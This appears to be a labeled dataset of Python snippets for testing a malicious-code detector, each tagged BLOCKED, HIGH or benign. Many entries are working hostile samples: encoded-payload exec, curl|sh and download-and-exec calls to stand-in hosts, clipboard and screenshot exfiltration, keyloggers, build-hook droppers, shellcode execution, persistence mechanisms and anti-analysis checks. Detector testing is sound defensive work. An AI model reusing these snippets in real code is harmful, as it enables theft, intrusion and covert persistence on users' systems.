#@ exec_fromhex BLOCKED t
exec(bytes.fromhex("696d706f7274206f733b6f732e73797374656d282269642229").decode())
#@ exec_rot13 BLOCKED t
import codecs
exec(codecs.decode("vzcbeg bf; bf.flfgrz('phey uggcf://k.rknzcyr.pbz/c | fu')", "rot13"))
#@ clipboard_written benign t
import pyperclip
result = "42"
pyperclip.copy(result)
#@ exec_b85 BLOCKED v
import base64
exec(base64.b85decode(b"X>D+Ca&#bXb31QyE^~QvbY*QQB4c%OY#=RjAZT=SaC15@FL*9xcwudDY-KKEZ*4DWAbcQmXd)>"))
#@ exec_lzma_b64 BLOCKED t
import base64, lzma
exec(lzma.decompress(base64.b64decode("/Td6WFoAAATm1rRGAgAhARYAAAB0L+Wj4ABWAE9dADSbSme4Ujxz97iKhsBQHJ1kC9wO5nY+x+QxFlHLrZ5fKHDjA2yS60uacGiksQKZbQtzgMh+4TY4TQt6aFt4HL+iTa5j271Ei8eHHDU3v0EAACWCzKpEq46VAAFrVxDDgFMftvN9AQAAAAAEWVo=")))
#@ builtins_joined_exec_download BLOCKED t
import builtins, urllib.request
f = getattr(builtins, "".join(["e", "x", "e", "c"]))
f(urllib.request.urlopen("https://x.example.com/p").read())
#@ sys_modules_system BLOCKED v
import os, sys
sys.modules["o" + "s"].__dict__["sys" + "tem"]("id")
#@ one_screenshot_own benign t
from mss import mss
with mss() as s:
    s.shot(output="screenshot.png")
#@ globals_builtins_eval BLOCKED t
globals()["__builtins__"].__dict__["ev" + "al"]("__import__('os').system('id')")
#@ bytes_list_import BLOCKED t
m = __import__(bytes([111, 115]).decode())
getattr(m, bytes([115, 121, 115, 116, 101, 109]).decode())("id")
#@ pydoc_locate_system BLOCKED v
import pydoc
pydoc.locate("os.sy" + "stem")("whoami")
#@ methodcaller_system BLOCKED t
import operator
operator.methodcaller("sys" + "tem", "id")(__import__("os"))
#@ webhook_notify benign v
import os
import requests
requests.post(os.environ["SLACK_WEBHOOK_URL"], json={"text": "deploy done"})
#@ marshal_zlib_function BLOCKED t
import base64, marshal, types, zlib
BLOB = "eJxjAAAAAQAB"
types.FunctionType(marshal.loads(zlib.decompress(base64.b64decode(BLOB))), globals())()
#@ pickle_literal_blob BLOCKED v
import base64, pickle
pickle.loads(base64.b64decode("gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="))
#@ dill_downloaded BLOCKED t
import dill
import requests
dill.loads(requests.get("https://x.example.com/f").content)()
#@ own_dispatch benign t
class Exporter:
    def to_csv(self):
        return "a,b"
    def to_json(self):
        return "{}"
fmt = "csv"
print(getattr(Exporter(), "to_" + fmt)())
#@ tk_clipboard_sent BLOCKED t
import tkinter
import requests
r = tkinter.Tk()
r.withdraw()
data = r.clipboard_get()
requests.post("https://x.example.com/c", data=data)
#@ qt_clipboard_hidden HIGH v
from PyQt5.QtWidgets import QApplication
app = QApplication([])
t = QApplication.clipboard().text()
open("/tmp/.c", "a").write(t)
#@ wl_paste_socket BLOCKED t
import socket, subprocess
cb = subprocess.run(["wl-paste"], capture_output=True).stdout
socket.create_connection(("203.0.113.7", 7000)).sendall(cb)
#@ gtk_clipboard HIGH t
import gi
gi.require_version("Gtk", "3.0")
from gi.repository import Gdk, Gtk
text = Gtk.Clipboard.get(Gdk.SELECTION_CLIPBOARD).wait_for_text()
#@ plugins_from_fixed_list benign t
import importlib
for name in ("csv_export", "json_export"):
    mod = importlib.import_module(f"plugins.{name}")
    mod.register()
#@ mss_hidden_shot HIGH v
import mss
with mss.mss() as s:
    s.shot(output="/tmp/.s.png")
#@ mss_loop_posted BLOCKED t
import time
import mss, mss.tools
import requests
with mss.mss() as s:
    while True:
        img = s.grab(s.monitors[1])
        requests.post("https://x.example.com/s", data=mss.tools.to_png(img.rgb, img.size))
        time.sleep(60)
#@ pyscreenshot_socket BLOCKED t
import io, socket
import pyscreenshot as ImageGrab
im = ImageGrab.grab()
buf = io.BytesIO()
im.save(buf, "PNG")
socket.create_connection(("203.0.113.7", 9000)).sendall(buf.getvalue())
#@ own_pickle_model benign v
import pickle
model = pickle.load(open("model.pkl", "rb"))
#@ evdev_keylogger BLOCKED v
import evdev
dev = evdev.InputDevice("/dev/input/event3")
with open("/tmp/.k", "a") as log:
    for ev in dev.read_loop():
        if ev.type == evdev.ecodes.EV_KEY:
            log.write(f"{ev.code}\n")
#@ pyxhook_keylogger BLOCKED t
import pyxhook
def on_key(event):
    open("/tmp/.keys", "a").write(event.Key)
hm = pyxhook.HookManager()
hm.KeyDown = on_key
hm.HookKeyboard()
hm.start()
#@ input_event_struct BLOCKED t
import struct
with open("/dev/input/event0", "rb") as f:
    while True:
        _, _, kind, code, value = struct.unpack("llHHI", f.read(24))
        if kind == 1 and value == 1:
            print(code, flush=True)
#@ async_key_state_poll BLOCKED v
import ctypes, time
user32 = ctypes.windll.user32
while True:
    for k in range(8, 255):
        if user32.GetAsyncKeyState(k) & 1:
            open("k.log", "a").write(chr(k))
    time.sleep(0.01)
#@ own_server_logged benign t
import subprocess
subprocess.Popen(["python3", "server.py"], stdout=open("server.log", "w"), stderr=subprocess.STDOUT)
#@ paste_rs_post HIGH t
import requests
requests.post("https://paste.rs/", data=open("notes.txt").read())
#@ tinyurl_open HIGH t
import urllib.request
urllib.request.urlopen("https://tinyurl.com/y7abc").read()
#@ decimal_ip_httpx HIGH v
import httpx
httpx.get("http://3405803783:8080/c")
#@ trycloudflare_put HIGH t
import requests
sub = "quiet-river-1234"
requests.put(f"https://{sub}.trycloudflare.com/up", data=open("out.zip", "rb"))
#@ own_lib_dir_path benign t
import os, sys
sys.path.insert(0, os.path.join(os.path.dirname(__file__), "lib"))
#@ slack_hook_history BLOCKED t
import os
import requests
requests.post("https://hooks.slack.com/services/T0/B0/xyz", json={"text": open(os.path.expanduser("~/.bash_history")).read()[-2000:]})
#@ oast_catcher HIGH v
import requests
requests.get("https://c2abc.oast.pro/x")
#@ ddns_socket HIGH t
import socket
socket.create_connection(("myhome.ddns.net", 443))
#@ libm_loaded benign v
import ctypes
libm = ctypes.CDLL("libm.so.6")
print(libm.cos)
#@ setup_top_level_system BLOCKED t
import os
from setuptools import setup
os.system("curl -s https://x.example.com/i | sh")
setup(name="x", version="0.1")
#@ hatch_hook_beacon BLOCKED v
import socket, urllib.request
from hatchling.builders.hooks.plugin.interface import BuildHookInterface
class Hook(BuildHookInterface):
    def initialize(self, version, build_data):
        urllib.request.urlopen("https://x.example.com/b?h=" + socket.gethostname())
#@ build_py_fetch_run BLOCKED t
import os
from setuptools import setup
from setuptools.command.build_py import build_py
class B(build_py):
    def run(self):
        os.system("wget -q https://x.example.com/a -O /tmp/a && sh /tmp/a")
        super().run()
setup(name="x", cmdclass={"build_py": B})
#@ plain_setup benign t
from setuptools import find_packages, setup
setup(name="pkg", version="1.0", packages=find_packages())
#@ backend_wrapper_fetch BLOCKED t
import os
from setuptools import build_meta as _orig
def build_wheel(*a, **k):
    os.system("curl -s https://x.example.com/w | sh")
    return _orig.build_wheel(*a, **k)
#@ cdll_shm HIGH v
import ctypes
ctypes.CDLL("/dev/shm/.libz.so")
#@ sys_path_var_tmp HIGH t
import sys
sys.path.insert(0, "/var/tmp/.mods")
import helper
#@ extension_loader_tmp HIGH t
import importlib.machinery
importlib.machinery.ExtensionFileLoader("x", "/tmp/x.so").load_module()
#@ cffi_dlopen_hidden HIGH v
from cffi import FFI
ffi = FFI()
lib = ffi.dlopen("/tmp/.cache/libq.so")
#@ downloaded_library_loaded BLOCKED t
import ctypes, urllib.request
urllib.request.urlretrieve("https://x.example.com/l.so", "/tmp/l.so")
ctypes.cdll.LoadLibrary("/tmp/l.so")
#@ countdown_retry benign t
import time
time.sleep(2)
print("retrying")
#@ memfd_fileless_exec BLOCKED t
import os
import requests
fd = os.memfd_create("x")
os.write(fd, requests.get("https://x.example.com/bin").content)
os.execv(f"/proc/self/fd/{fd}", ["x"])
#@ shellcode_mmap_exec BLOCKED v
import ctypes, mmap
sc = bytes.fromhex("4831c0b03c4831ff0f05")
buf = mmap.mmap(-1, len(sc), prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
buf.write(sc)
ctypes.CFUNCTYPE(None)(ctypes.addressof(ctypes.c_char.from_buffer(buf)))()
#@ popen_new_session_tmp HIGH t
import subprocess
subprocess.Popen(["/tmp/.x/agent"], start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
#@ double_fork_shm HIGH t
import os, sys
if os.fork():
    sys.exit()
os.setsid()
if os.fork():
    sys.exit()
os.execv("/dev/shm/.w", ["w"])
#@ detached_windows_temp HIGH v
import os, subprocess
exe = os.path.join(os.environ["TEMP"], "svc.exe")
subprocess.Popen([exe], creationflags=0x00000008 | 0x08000000)
#@ logo_decoded benign v
import base64
open("logo.png", "wb").write(base64.b64decode(open("logo.b64").read()))
#@ user_unit_enabled BLOCKED t
import subprocess
from pathlib import Path
unit = Path.home().joinpath(".config/systemd/user/sync.service")
unit.parent.mkdir(parents=True, exist_ok=True)
unit.write_text("[Service]\nExecStart=%h/.local/bin/.s\n[Install]\nWantedBy=default.target\n")
subprocess.run(["systemctl", "--user", "enable", "--now", "sync"])
#@ xprofile_appended BLOCKED t
import os
with open(os.path.expanduser("~/.xprofile"), "a") as f:
    f.write("~/.local/bin/.agent &\n")
#@ startup_folder_copy BLOCKED v
import os, shutil, sys
shutil.copy(sys.argv[0], os.path.join(os.environ["APPDATA"], r"Microsoft\Windows\Start Menu\Programs\Startup\upd.pyw"))
#@ schtasks_onlogon BLOCKED t
import subprocess
exe = r"C:\Users\Public\upd.exe"
subprocess.run(["schtasks", "/create", "/sc", "onlogon", "/tn", "upd", "/tr", exe])
#@ profile_d_written BLOCKED t
from pathlib import Path
Path("/etc/profile.d/zz.sh").write_text("python3 /opt/.a/a.py &\n")
#@ rot13_printed benign t
import codecs
print(codecs.decode("uryyb", "rot13"))
#@ launch_agent_plist BLOCKED v
import os, plistlib
plist = {"Label": "com.x.upd", "ProgramArguments": ["/usr/bin/python3", os.path.expanduser("~/.upd.py")], "RunAtLoad": True}
with open(os.path.expanduser("~/Library/LaunchAgents/com.x.upd.plist"), "wb") as f:
    plistlib.dump(plist, f)
#@ vimrc_autocmd BLOCKED t
import os
open(os.path.expanduser("~/.vimrc"), "a").write("autocmd VimEnter * silent !curl -s https://x.example.com/v | sh\n")
#@ gettrace_then_exec BLOCKED t
import sys
import requests
if sys.gettrace() is not None:
    sys.exit(0)
exec(requests.get("https://x.example.com/p").text)
#@ mac_vendor_check_fetch BLOCKED v
import sys, urllib.request, uuid
if (uuid.getnode() >> 24) in (0x000C29, 0x080027, 0x005056):
    sys.exit()
exec(urllib.request.urlopen("https://x.example.com/s").read())
#@ resources_sleep_shell BLOCKED t
import os, subprocess, time
import psutil, requests
if os.cpu_count() < 2 or psutil.virtual_memory().total < 2**31:
    quit()
time.sleep(600)
subprocess.run(["sh", "-c", requests.get("https://x.example.com/x").text])
#@ analysis_tools_check HIGH t
import sys
import psutil
if any(p.name() in ("wireshark", "x64dbg", "procmon") for p in psutil.process_iter()):
    sys.exit()
